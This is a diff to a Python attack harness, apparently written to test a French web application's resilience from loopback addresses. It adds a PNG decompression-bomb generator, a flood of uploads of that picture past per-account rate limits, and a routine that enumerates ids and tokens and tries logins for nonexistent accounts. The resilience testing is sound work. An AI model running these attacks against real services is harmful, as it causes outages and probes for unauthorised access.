@@ -4,6 +4,7 @@ usage: attaquer.py ADDRESS ATTACK NETWORKS SECONDS
 """
 
 import asyncio
+import hashlib
 import json
 import struct
 import sys
@@ -77,12 +78,24 @@ async def sans_fin(frein, geste):
         await geste()
 
 
+def morceau(nom, octets):
+    """A chunk of a PNG."""
+    return struct.pack(">I", len(octets)) + nom + octets + struct.pack(">I", zlib.crc32(nom + octets))
+
+
+def photo():
+    """A picture of 39.7 million black pixels in some 120 kB: drawing it takes 119 MB."""
+    cote = 6300
+    ligne = b"\0" * (1 + 3 * cote)
+    pixels = zlib.compressobj(9)
+    lignes = b"".join(pixels.compress(ligne) for _ in range(cote)) + pixels.flush()
+    ihdr = struct.pack(">IIBBBBB", cote, cote, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + morceau(b"IHDR", ihdr) + morceau(b"IDAT", lignes) + morceau(b"IEND", b"")
+
+
 def image():
     """A valid picture of 4 by 4 pixels whose colour profile inflates to 100 MB."""
-
-    def morceau(nom, octets):
-        return struct.pack(">I", len(octets)) + nom + octets + struct.pack(">I", zlib.crc32(nom + octets))
-
+    profil = zlib.compressobj(9)
     profil = zlib.compressobj(9)
     zeros = b"\0" * 1_000_000
     deploye = b"".join(profil.compress(zeros) for _ in range(100)) + profil.flush()
@@ -166,10 +179,16 @@ async def corps(adresse, sources, frein):
     await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: promettre(s)) for n in range(520)))
 
 
-async def flux(adresse, sources, frein):
-    _, cookie = client.entrer(adresse, sources[0], "responsable@cabinet-alpha.example")
+def cookie_d_un_compte(adresse, source):
+    """The session of an attacker who has an account."""
+    _, cookie = client.entrer(adresse, source, "responsable@cabinet-alpha.example")
     if not cookie:
         sys.exit("the attacker could not sign in")
+    return cookie
+
+
+async def flux(adresse, sources, frein):
+    cookie = cookie_d_un_compte(adresse, sources[0])
     tenus = set()
     rang = iter(range(10**9))
 
@@ -211,11 +230,65 @@ async def connexions(adresse, sources, frein):
     await asyncio.gather(*(sans_fin(frein, lambda s=sources[n % len(sources)]: essayer(s)) for n in range(100)))
 
 
+async def photos(adresse, sources, frein):
+    """One account sends its photo again and again, from everywhere; the same picture goes to deposits of registrations."""
+    moi = FORME | {"Cookie": cookie_d_un_compte(adresse, sources[0])}
+    octets = await asyncio.to_thread(photo)
+    sienne, recue = client.formulaire(octets, "photo"), client.formulaire(octets)
+    # A network opens one deposit.
+    depots_ouverts = {}
+
+    async def deposer(source):
+        if source not in depots_ouverts:
+            depots_ouverts[source] = FORME | await asyncio.to_thread(client.ouvrir_depot, adresse, source)
+        await appeler(adresse, source, "POST", DOCUMENT, recue, depots_ouverts[source])
+
+    async def poser(source):
+        await appeler(adresse, source, "PUT", "/api/user/me/photo", sienne, moi)
+
+    # More at once than an account may send in an hour, and as many files as the attack `images`.
+    gestes = [(poser, n) for n in range(30)] + [(deposer, n) for n in range(8)]
+    await asyncio.gather(*(sans_fin(frein, lambda g=g, s=sources[n % len(sources)]: g(s)) for g, n in gestes))
+
+
+async def sondage(adresse, sources, frein):
+    """Ids and tokens one after the other, signed in and not, and passwords of accounts that do not exist."""
+    moi = {"Cookie": cookie_d_un_compte(adresse, sources[0])}
+    json_envoye = {"Content-Type": "application/json"}
+    rang = iter(range(10**9))
+
+    async def chercher(source):
+        n = next(rang)
+        jeton = hashlib.sha256(str(n).encode()).hexdigest()
+        inconnu = {"email": f"inconnu{n}@cabinet.example", "motDePasse": "un mot de passe"}
+        active = {"jeton": jeton, "motDePasse": "un autre mot de passe 22"}
+        for methode, chemin, corps, entetes in (
+            ("GET", f"/api/denonciations/{10**6 + n}", None, moi),
+            ("GET", f"/api/reservations/{10**6 + n}", None, moi),
+            ("GET", f"/api/offre/lots/lot-{n}", None, {}),
+            ("GET", f"/api/mandats-signature/{jeton}", None, {}),
+            ("GET", f"/api/inscription/pieces/{jeton}", None, {}),
+            ("GET", f"/api/options/calendrier/{jeton}", None, {}),
+            ("GET", "/api/signature", None, {"Linteau-Jeton": jeton}),
+            ("POST", "/api/activation", active, json_envoye),
+            ("POST", "/api/session", inconnu, json_envoye),
+        ):
+            await appeler(adresse, source, methode, chemin, json.dumps(corps).encode() if corps else b"", entetes)
+            await frein.souffler()
+
+    await asyncio.gather(
+        *(sans_fin(frein, lambda s=sources[n % len(sources)]: chercher(s)) for n in range(max(40, len(sources))))
+    )
+
+
+ATTAQUES = (images, depots, envois, dessins, corps, flux, connexions, photos, sondage)
+
+
 async def main():
     adresse, attaque, reseaux, secondes = sys.argv[1:5]
     sources = [f"127.0.0.{n}" for n in range(2, 2 + int(reseaux))]
     frein = Frein(float(secondes))
-    jouer = {f.__name__: f for f in (images, depots, envois, dessins, corps, flux, connexions)}[attaque]
+    jouer = {f.__name__: f for f in ATTAQUES}[attaque]
     try:
         await asyncio.wait_for(jouer(adresse, sources, frein), float(secondes) + 5)
     except asyncio.TimeoutError:
